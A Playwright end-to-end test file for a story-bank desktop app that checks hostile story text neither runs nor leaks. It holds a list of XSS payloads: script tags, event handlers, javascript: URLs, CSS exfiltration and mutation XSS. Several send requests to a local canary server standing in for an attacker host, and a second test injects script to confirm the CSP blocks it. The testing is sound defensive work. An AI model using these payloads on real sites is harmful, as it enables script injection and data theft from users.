import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { renderStoryFile } from '../src/core/frontmatter/renderStoryFile';
import type { Story } from '../src/core/story';
import { expect, startFromSetup, test as base } from './fixtures';

/**
 * Story text is untrusted: a file can come from a shared repository or an import. Every field of
 * one story carries every payload below, and the story is shown in each view that shows text (the
 * board, the editor's fields and preview, the teleprompter, the export dialog and its diff). A
 * payload that ran would set `window.__pwned`; one that leaked would reach the canary server (a
 * local HTTP server on another port, counting hits) or show up as a request to another origin.
 * None may. A second test plays "the sanitiser failed": it injects script into the page itself
 * and shows the CSP refuses to run it.
 */

/** Payloads by name; `CANARY` is replaced by the canary server's address, `NAME` by the payload's name. */
const PAYLOADS: Record<string, string> = {
  script: `<script>window.__pwned='NAME';fetch('CANARY/NAME')</script>`,
  'img onerror': `<img src=x onerror="window.__pwned='NAME'">`,
  'img remote': `<img src="CANARY/NAME">`,
  'markdown image': `![x](CANARY/NAME)`,
  'javascript: link': `[click me](javascript:window.__pwned='NAME')`,
  'javascript: anchor': `<a href="javascript:window.__pwned='NAME'">anchor</a>`,
  'iframe javascript:': `<iframe src="javascript:parent.__pwned='NAME'"></iframe>`,
  'iframe srcdoc': `<iframe srcdoc="<script>parent.__pwned='NAME'</script>"></iframe>`,
  'iframe remote': `<iframe src="CANARY/NAME"></iframe>`,
  'svg script': `<svg><script>window.__pwned='NAME'</script></svg>`,
  'svg onload': `<svg onload="window.__pwned='NAME'"></svg>`,
  'svg use': `<svg><use href="CANARY/NAME#x"></use></svg>`,
  'details ontoggle': `<details open ontoggle="window.__pwned='NAME'"><summary>s</summary></details>`,
  'style exfiltration': `<style>input[value^="a"],*{background-image:url(CANARY/NAME)}</style>`,
  'style import': `<style>@import url(CANARY/NAME);</style>`,
  'link stylesheet': `<link rel="stylesheet" href="CANARY/NAME">`,
  'style attribute': `<div style="background-image:url(CANARY/NAME)">styled</div>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=CANARY/NAME">`,
  'base href': `<base href="CANARY/NAME/">`,
  'object data': `<object data="CANARY/NAME"></object>`,
  'embed src': `<embed src="CANARY/NAME">`,
  'video poster': `<video poster="CANARY/NAME" src="CANARY/NAME"></video>`,
  'form action': `<form action="CANARY/NAME"><button>go</button></form>`,
  'math href': `<math><mi xlink:href="javascript:window.__pwned='NAME'">m</mi></math>`,
  'mutation XSS': `<noscript><p title="</noscript><img src=x onerror=window.__pwned='NAME'>">`,
  'template injection': `{{constructor.constructor('window.__pwned="NAME"')()}}`,
};

/*
 * The page's globals, for the code `page.evaluate` runs inside it. This project type-checks e2e
 * under Node (no DOM library), so the little of the DOM used here is declared for this file only.
 */
interface PageElement {
  tagName: string;
  attributes: Iterable<{ name: string; value: string }>;
  textContent: string | null;
  href: string;
  src: string;
  rel: string;
  innerHTML: string;
  append(...nodes: PageElement[]): void;
  click(): void;
}
declare const document: {
  querySelectorAll(selectors: string): Iterable<PageElement> & { length: number };
  createElement(tag: string): PageElement;
  body: PageElement;
  head: PageElement;
  addEventListener(type: string, listener: (event: { effectiveDirective: string; blockedURI: string }) => void): void;
};
declare const window: object;
declare const location: { origin: string };

interface Canary {
  url: string;
  hits: string[];
}

function payloads(canary: string): string[] {
  return Object.entries(PAYLOADS).map(([name, text]) =>
    text.replaceAll('CANARY', canary).replaceAll('NAME', name.replace(/\W+/g, '-')),
  );
}

/** Every field of a story, each holding every payload (lists: one item per payload). */
function hostileStory(id: string, competency: Story['competency'], canary: string): Story {
  const all = payloads(canary);
  const line = all.join(' ');
  const block = all.join('\n\n');
  return {
    id,
    title: `Hostile story ${line}`,
    competency,
    weeks: [10],
    metric: `42 ms ${line}`,
    tradeoff: {
      chosen: `chosen ${line}`,
      alternatives: all,
      because: `because ${line}`,
      accepting: `accepting ${line}`,
    },
    questionTypes: all,
    keyPhrases: all,
    sections: {
      situation: `Situation. ${block}`,
      task: `Task. ${block}`,
      action: `Action. ${block}`,
      result: `Result. ${block}`,
    },
  };
}

const FIELDS = ['title', 'metric', 'chosen', 'alternatives', 'because', 'accepting', 'questionTypes', 'keyPhrases'];
const SECTIONS = ['situation', 'task', 'action', 'result'];

const test = base.extend<{ canary: Canary; hostileId: string }>({
  // eslint-disable-next-line no-empty-pattern
  canary: async ({}, use) => {
    const hits: string[] = [];
    const server: Server = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
      response.end('x');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits });
    await new Promise((resolve) => server.close(resolve));
  },
  hostileId: 'raft-attestation-log',
  // The first sample story is replaced by the hostile one before the app starts.
  vault: async ({ vault, canary, hostileId }, use) => {
    const folder = join(vault, 'stories');
    const [first] = (await readdir(folder)).sort();
    const original = await readFile(join(folder, first), 'utf8');
    const competency = /^competency: (.+)$/m.exec(original)?.[1] as Story['competency'];
    await writeFile(join(folder, first), renderStoryFile(hostileStory(hostileId, competency, canary.url)));
    await use(vault);
  },
});

/**
 * What a page records from the start: CSP violations, and requests to another origin. Chromium
 * reports a request the CSP then refuses too, so each keeps how it ended: `blocked` (refused before
 * it left), `failed: …`, or `sent`.
 */
async function watchPage(page: Page): Promise<{ foreign: Map<string, string> }> {
  const foreign = new Map<string, string>();
  // Built from the parts: Node's URL gives a custom scheme (Electron's storybank://app) a null origin.
  const address = new URL(page.url());
  const origin = `${address.protocol}//${address.host}`;
  const mine = (url: string): boolean => url.startsWith(`${origin}/`) || /^(data|blob):/.test(url);
  page.on('request', (request) => void (mine(request.url()) || foreign.set(request.url(), 'sent')));
  page.on('requestfailed', (request) => {
    if (mine(request.url())) return;
    const reason = request.failure()?.errorText ?? '';
    foreign.set(request.url(), /BLOCKED_BY_CSP|csp/i.test(reason) ? 'blocked' : `failed: ${reason}`);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      w.__csp.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  // Again, now with the recorder in place from the first script on.
  await page.reload();
  return { foreign };
}

/** Nothing ran, nothing left, and the DOM holds nothing that could run on a click. */
async function expectNothingRan(page: Page, canary: Canary, foreign: Map<string, string>, view: string): Promise<void> {
  const state = await page.evaluate(() => {
    const doc = document;
    const all = [...doc.querySelectorAll('*')];
    return {
      pwned: (window as unknown as { __pwned?: string }).__pwned ?? null,
      handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
      scriptUrls: all.flatMap((el) =>
        [...el.attributes]
          .filter(
            (a) => /^\s*(javascript|vbscript|data:text\/html)/i.test(a.value) && /href|src|action|data/i.test(a.name),
          )
          .map((a) => `${el.tagName} ${a.name}=${a.value}`),
      ),
      frames: doc.querySelectorAll('iframe, frame, object, embed, base, meta[http-equiv="refresh" i], form[action]')
        .length,
      styles: [...doc.querySelectorAll('style')].filter((s) => /pwned|127\.0\.0\.1/.test(s.textContent ?? '')).length,
      links: [...doc.querySelectorAll('link[href]')]
        .map((l) => l.href)
        .filter((href) => new URL(href).origin !== location.origin),
      inlineScripts: [...doc.querySelectorAll('script')].filter((s) => !s.src).length,
    };
  });
  expect(state, view).toEqual({
    pwned: null,
    handlers: [],
    scriptUrls: [],
    frames: 0,
    styles: 0,
    links: [],
    inlineScripts: 0,
  });
  expect(canary.hits, view).toEqual([]);
  // Not even an attempt the CSP would refuse: the sanitiser leaves nothing that fetches.
  expect([...foreign.keys()], view).toEqual([]);
}

test.describe('hostile story text', () => {
  test('runs and leaks nothing on the board, in the editor and preview, the teleprompter, the export and the import dialogs', async ({
    app,
    canary,
    vault,
    hostileId,
  }, testInfo) => {
    const { foreign } = await watchPage(app);
    const card = app.locator(`[data-testid="story-card"][data-story-id="${hostileId}"]`);
    await expect(card).toContainText('Hostile story');
    // The payload is shown as the text it is.
    await expect(card.getByRole('heading')).toContainText(`<script>window.__pwned='script'`);
    await expectNothingRan(app, canary, foreign, 'board');

    await card.getByRole('button').first().click();
    const editor = app.getByTestId('story-editor');
    await expect(editor).toBeVisible();
    await expect(editor.getByRole('textbox').first()).toHaveValue(/Hostile story <script>/);
    await expectNothingRan(app, canary, foreign, 'editor fields');

    await editor.getByRole('button', { name: 'Preview', exact: true }).click();
    const preview = app.getByTestId('story-preview');
    await expect(preview).toContainText('Situation.');
    await expect(preview).toContainText('click me');
    await expectNothingRan(app, canary, foreign, 'preview');
    // Clicking every link the preview kept does nothing either.
    for (const link of await preview.getByRole('link').all()) {
      const href = await link.getAttribute('href');
      expect(href ?? '', 'a link the sanitiser kept').not.toMatch(/^\s*javascript:/i);
    }

    await editor.getByRole('button', { name: 'History', exact: true }).click();
    await expect(app.getByTestId('story-history')).toBeVisible();
    await expectNothingRan(app, canary, foreign, 'history');
    await editor.getByRole('button', { name: 'Edit', exact: true }).click();

    await editor.getByRole('button', { name: 'Rehearse' }).click();
    const prompter = app.getByRole('dialog', { name: 'Rehearse' });
    await expect(prompter.getByTestId('teleprompter-text')).toContainText('Situation.');
    await expectNothingRan(app, canary, foreign, 'teleprompter');
    await startFromSetup(prompter);
    // Once the take runs, Finish ends it with its summary.
    const finish = prompter.getByRole('button', { name: 'Finish' });
    await expect(finish).toBeVisible({ timeout: 15_000 });
    await finish.click();
    const summary = prompter.getByTestId('teleprompter-summary');
    await expect(summary).toBeVisible();
    // Notes on the take, typed in and saved with it.
    const notes = prompter.getByTestId('take-notes');
    await notes.fill(payloads(canary.url).join('\n'));
    await notes.blur();
    await expectNothingRan(app, canary, foreign, 'teleprompter summary');
    await app.keyboard.press('Escape');
    await expect(prompter).toHaveCount(0);

    await app.keyboard.press('Control+e');
    const dialog = app.getByTestId('export-dialog');
    await expect(dialog.getByTestId('export-path')).toBeVisible();
    await expectNothingRan(app, canary, foreign, 'export dialog');
    await dialog.getByRole('button', { name: 'Done' }).click();

    // A hand edit adds more payloads to the deliverable: the export dialog shows them as a diff.
    const deliverable = join(vault, 'week-23', 'day5-interview-story-bank.md');
    await writeFile(deliverable, `${await readFile(deliverable, 'utf8')}\n${payloads(canary.url).join('\n')}\n`);
    await app.keyboard.press('Control+e');
    await expect(dialog.getByTestId('diff')).toContainText('onerror');
    await expectNothingRan(app, canary, foreign, 'export diff');
    await dialog.getByRole('button', { name: 'Keep my edits' }).click();

    // An imported file, its name and every field hostile: the import report, then the board.
    const line = payloads(canary.url).join(' ');
    const answer = testInfo.outputPath(`<img src=x onerror=window.__pwned='file-name'>.md`);
    await writeFile(
      answer,
      [
        `# Imported ${line}`,
        '',
        '**Competency:** Collaboration',
        `**Situation:** ${line}`,
        `**Task:** ${line}`,
        `**Action:** ${line}`,
        `**Result:** ${line}`,
        `**Metric:** 4 of 4 ${line}`,
        `**Tradeoff:** I evaluated ${line} and shadowing, chose pairing because ${line}, accepting ${line}.`,
      ].join('\n'),
    );
    await app.getByRole('button', { name: 'Import…' }).click();
    await app.getByTestId('import-files').setInputFiles(answer);
    const imported = app.getByTestId('import-dialog');
    await expect(imported.getByRole('heading', { name: 'Imported 1 story' })).toBeVisible();
    await expectNothingRan(app, canary, foreign, 'import report');
    await imported.getByRole('button', { name: 'Done' }).click();
    await expect(app.getByTestId('story-card').filter({ hasText: 'Imported <script>' })).toBeVisible();
    await expectNothingRan(app, canary, foreign, 'board after import');

    // The figures for the security notes. The page's own CSP reports are expected and harmless:
    // zod probing whether it may compile (`new Function`, caught) and DOMPurify parsing the dirty
    // text in an inert document (its <base> and handlers are reported, never applied).
    const violations = await app.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
    console.log(
      `XSS: ${Object.keys(PAYLOADS).length} payloads × ${FIELDS.length + SECTIONS.length} fields × 10 views ` +
        `(board, editor, preview, history, teleprompter, its summary, export, export diff, import report, board after import); ` +
        `canary hits ${canary.hits.length}, requests to other origins ${foreign.size}, ` +
        `CSP reports ${violations.length} (${[...new Set(violations.map((v) => v.split(' ')[0]))].join(', ')})`,
    );
  });

  test('the CSP refuses script injected as if the sanitiser had failed', async ({ app, canary }) => {
    const { foreign } = await watchPage(app);
    await expect(app.getByTestId('story-card').first()).toBeVisible();
    const outcome = await app.evaluate(async (canaryUrl) => {
      const w = window as unknown as { __pwned?: string; __csp: string[] };
      const errors: string[] = [];
      // An inline <script> element, added the way a sanitiser bug would let one in.
      const script = document.createElement('script');
      script.textContent = "window.__pwned = 'inline script'";
      document.body.append(script);
      // Inline event handlers.
      const holder = document.createElement('div');
      holder.innerHTML = `<img src="data:," onerror="window.__pwned='onerror'"><svg onload="window.__pwned='svg'"></svg>`;
      document.body.append(holder);
      // A javascript: URL, followed.
      const link = document.createElement('a');
      link.href = "javascript:window.__pwned='javascript-url'";
      document.body.append(link);
      link.click();
      // String evaluation, from a task of the page's own (code run by the test driver itself may eval).
      await new Promise<void>((resolve) =>
        setTimeout(() => {
          for (const run of [
            () => eval("window.__pwned = 'eval'"),
            () => new Function("window.__pwned = 'function'")(),
          ]) {
            try {
              run();
            } catch (error) {
              errors.push((error as Error).name);
            }
          }
          resolve();
        }),
      );
      // A timer given a string instead of a function.
      (setTimeout as unknown as (code: string) => void)("window.__pwned = 'timer string'");
      // A script and a style sheet from elsewhere, and a fetch to elsewhere.
      const remote = document.createElement('script');
      remote.src = `${canaryUrl}/remote-script`;
      document.body.append(remote);
      const sheet = document.createElement('link');
      sheet.rel = 'stylesheet';
      sheet.href = `${canaryUrl}/remote-style`;
      document.head.append(sheet);
      const style = document.createElement('style');
      style.textContent = `body { background-image: url(${canaryUrl}/inline-style) }`;
      document.head.append(style);
      try {
        await fetch(`${canaryUrl}/fetch`);
      } catch (error) {
        errors.push((error as Error).name);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { pwned: w.__pwned ?? null, errors, violations: [...w.__csp] };
    }, canary.url);
    expect(outcome.pwned).toBeNull();
    expect(outcome.errors).toEqual(['EvalError', 'EvalError', 'TypeError']);
    const directives = new Set(outcome.violations.map((v) => v.split(' ')[0]));
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'style-src-elem', 'connect-src'])
      expect([...directives], `a ${directive} violation is reported`).toContain(directive);
    expect(canary.hits).toEqual([]);
    // The page tried (that is the point), and every attempt was refused before it left.
    expect(foreign.size).toBeGreaterThan(0);
    for (const [url, outcome] of foreign) expect(outcome, url).toBe('blocked');
  });
});
